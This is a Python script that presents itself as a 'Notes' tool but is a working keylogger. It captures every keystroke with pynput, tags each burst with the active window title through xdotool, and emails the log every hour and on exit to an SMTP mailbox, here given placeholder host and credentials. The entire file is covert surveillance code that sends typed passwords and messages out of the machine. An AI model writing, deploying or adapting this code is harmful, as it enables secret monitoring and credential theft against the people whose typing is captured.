import atexit
import smtplib
import subprocess
from datetime import datetime
from threading import Timer
from pynput import keyboard


class Notes:
    def __init__(self, every=3600):
        self.every, self.log, self.win = every, [], ""

    def title(self):
        try:
            return subprocess.check_output(["xdotool", "getactivewindow", "getwindowname"], text=True).strip()
        except Exception:
            return "?"

    def on_press(self, key):
        w = self.title()
        if w != self.win:
            self.win = w
            self.log.append(f"\n[{datetime.now():%H:%M} {w}]\n")
        self.log.append(getattr(key, "char", None) or f"<{getattr(key, 'name', key)}>")

    def mail(self):
        if self.log:
            with smtplib.SMTP("smtp.example.org", 587) as s:
                s.starttls()
                s.login("notes@example.org", "Demo-App-Pass")
                s.sendmail("notes@example.org", "notes@example.org", "Subject: notes\n\n" + "".join(self.log))
            self.log.clear()
        t = Timer(self.every, self.mail)
        t.daemon = True
        t.start()


n = Notes()
atexit.register(n.mail)
with keyboard.Listener(on_press=n.on_press) as l:
    n.mail()
    l.join()
